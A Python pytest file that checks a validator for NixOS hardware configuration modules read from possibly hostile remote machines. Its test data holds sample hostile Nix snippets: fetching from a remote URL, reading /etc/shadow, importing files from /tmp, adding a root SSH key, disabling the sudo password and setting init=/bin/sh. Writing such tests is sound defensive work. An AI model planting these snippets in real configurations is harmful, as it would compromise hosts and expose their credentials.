"""Hardware files come from machines that may be hostile: only what the generator writes passes without a person."""

from __future__ import annotations

from pathlib import Path
from typing import Any, cast

import pytest

from pvenix.engine.ports import CommandResult, End
from pvenix.engine.step import Step
from pvenix.fleet.starter import starter
from pvenix.lifecycle.hardware import inspect, read
from pvenix.lifecycle.remote import Remote
from pvenix.lifecycle.state import looking_at
from pvenix.lifecycle.world import World
from pvenix.model.errors import RemoteFailure

ROOT = starter()
REAL = sorted((ROOT / "nix/hardware").glob("*-hw.nix"))
HEAD = "{ config, lib, pkgs, modulesPath, ... }:\n\n"


def module(body: str) -> str:
    return HEAD + "{\n" + body + "\n}\n"


RICH = module(
    """
  imports = [ (modulesPath + "/installer/scan/not-detected.nix") ];
  boot.initrd.availableKernelModules = [ "nvme" "xhci_pci" ];
  boot.initrd.luks.devices."root".device = "/dev/disk/by-uuid/6d1f0a52-3c1e-4a0b-9b0e-5f0c8e1d7a44";
  boot.swraid.enable = true;
  fileSystems."/" = { device = "tank/root"; fsType = "zfs"; neededForBoot = true; };
  swapDevices = [ { device = "/dev/disk/by-uuid/1"; priority = 5; } ];
  networking.interfaces.ens18.useDHCP = lib.mkDefault true;
  hardware.cpu.intel.updateMicrocode = lib.mkDefault config.hardware.enableRedistributableFirmware;
  nixpkgs.hostPlatform = lib.mkDefault "x86_64-linux";"""
)

HOSTILE = {
    "a download": module('boot.kernelModules = [ (builtins.fetchurl "http://x.example/m") ];'),
    "a download by its bare name": module('boot.kernelModules = [ (fetchTarball "http://x.example/m") ];'),
    "reading a file": module('boot.kernelModules = [ (builtins.readFile "/etc/shadow") ];'),
    "reading a file by a path": module("boot.kernelModules = [ (builtins.readFile /etc/shadow) ];"),
    "an import of a URL": module('imports = [ (import (builtins.fetchTarball "http://x.example/m")) ];'),
    "an import of a bare URI": module("imports = [ (import https://x.example/m.nix) ];"),
    "an import of a path": module("imports = [ ./evil.nix ];"),
    "an import of an absolute path": module("imports = [ /tmp/evil.nix ];"),
    "an import of a search path": module("imports = [ <nixpkgs/nixos/evil.nix> ];"),
    "a home path": module("imports = [ ~/evil.nix ];"),
    "an import by a string": module('imports = [ "/tmp/evil.nix" ];'),
    "modulesPath with a way out": module('imports = [ (modulesPath + "/../../../../tmp/evil.nix") ];'),
    "a module of another service": module('imports = [ (modulesPath + "/services/networking/ssh/sshd.nix") ];'),
    "an antiquote": module('fileSystems."/".device = "${builtins.readFile "/etc/shadow"}";'),
    "an antiquote of a package": module('fileSystems."/".device = "${pkgs.hello}";'),
    "an antiquote in an attribute": module('fileSystems."${builtins.toString 1}".device = "/dev/sda1";'),
    "a dynamic attribute": module('fileSystems.${"x"}.device = "/dev/sda1";'),
    "an indented string": module("fileSystems.\"/\".device = ''/dev/sda1'';"),
    "let": HEAD + 'let x = 1; in { boot.kernelModules = [ "kvm" ]; }\n',
    "with": module("boot.extraModulePackages = with pkgs; [ hello ];"),
    "builtins": module("boot.kernelModules = builtins.attrNames builtins;"),
    "assert": HEAD + "assert true; { swapDevices = [ ]; }\n",
    "inherit": module("inherit (pkgs) hello;"),
    "inherit in a set": module('fileSystems."/" = { inherit lib; };'),
    "rec": HEAD + "rec { swapDevices = [ ]; }\n",
    "if": module("swapDevices = if true then [ ] else [ ];"),
    "has-attribute": module("networking.useDHCP = lib ? mkForce;"),
    "a function inside": module("swapDevices = (x: x) [ ];"),
    "a package as a kernel module": module("boot.extraModulePackages = [ pkgs.evil ];"),
    "another function of lib": module('boot.kernelModules = lib.mkForce [ "kvm" ];'),
    "an activation script": module('system.activationScripts.x = "id > /tmp/x";'),
    "a user": module('users.users.root.openssh.authorizedKeys.keys = [ "ssh-ed25519 AAAA" ];'),
    "a service": module('systemd.services.x.script = "id";'),
    "sudo": module("security.sudo.wheelNeedsPassword = false;"),
    "a kernel parameter": module('boot.kernelParams = [ "init=/bin/sh" ];'),
    "an option that only begins like an expected one": module('fileSystemsEvil."/" = { };'),
    "a nested option": module('boot = { kernelParams = [ "init=/bin/sh" ]; };'),
    "a nested option two levels deep": module('boot = { initrd = { postDeviceCommands = "id"; }; };'),
    "initrd commands": module('boot.initrd.postDeviceCommands = "id";'),
    "the same option again, quoted": module('"system".activationScripts.x = "id";'),
    "no module but a value": '{ fileSystems."/".device = 1; evil = 2; }',
    "a string alone": '"evil"',
    "nothing": "",
    "broken syntax": module("fileSystems = ;"),
    "an unclosed brace": HEAD + "{ swapDevices = [ ];",
    "far too much": module("# " + "x" * 70_000),
    "a deep nest": module("swapDevices = " + "[" * 3000 + "]" * 3000 + ";  boot.kernelParams = [ ];"),
    "arguments with a default that runs": "{ lib ? import /tmp/x.nix, ... }:\n{ swapDevices = [ ]; }",
    "arguments caught whole": "args@{ lib, ... }:\n{ swapDevices = [ ]; }",
    "an import of the configuration": module("networking.useDHCP = lib.mkDefault config.services.evil.enable;"),
    "an invisible character in a name": module("boot\u200b.kernelModules = [ ];"),
}


@pytest.mark.parametrize("path", REAL, ids=[path.name for path in REAL])
def test_the_generator_s_own_files_pass(path: Path) -> None:
    assert inspect(path.read_text()) == ()


def test_there_are_real_files_to_pass() -> None:
    assert len(REAL) >= 4


def test_everything_that_the_generator_can_write_passes() -> None:
    assert inspect(RICH) == ()


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_anything_else_is_for_a_person_s_eyes(text: str) -> None:
    assert inspect(text) != ()


def test_a_finding_names_its_line_and_shows_little() -> None:
    [found] = inspect(module('boot.kernelModules = [ "a" ];\nboot.kernelParams = [ "' + "x" * 500 + '" ];'))
    assert found.startswith("line 5: sets boot.kernelParams")
    assert len(found) < 120


class Printing:
    """A guest that prints `text`, whatever it is asked."""

    def __init__(self, text: str) -> None:
        self.text = text

    async def run(self, argv: tuple[str, ...], **_: object) -> CommandResult:
        return CommandResult(argv=argv, end=End.EXITED, exit_status=0, stdout=self.text, stderr="", seconds=0)

    async def remote(self, step: Step) -> Remote:
        return Remote(session=cast("Any", self), step=step)


NOISY = {
    "a flood": "y" * 200_000,
    "a line of noise before it": "# audit: type=1400\n^[[2J" + RICH,
    "two of them": RICH + RICH,
    "a value": '"evil"',
    "nothing": "",
    "half of it": RICH[: len(RICH) // 2],
}


@pytest.mark.parametrize("text", NOISY.values(), ids=list(NOISY))
async def test_what_is_no_module_is_refused_where_it_is_read(text: str) -> None:
    with pytest.raises(RemoteFailure, match="dns01 prints no hardware configuration") as refused:
        await read(cast("World", Printing(text)), looking_at("dns01"))
    assert "nixos-generate-config --show-hardware-config" in refused.value.hint
    assert sum(map(len, refused.value.evidence)) < 500


@pytest.mark.parametrize("text", [RICH, HOSTILE["a kernel parameter"]], ids=["the generator's", "an unexpected option"])
async def test_a_module_is_let_through_to_the_review(text: str) -> None:
    assert await read(cast("World", Printing(text)), looking_at("dns01")) == text
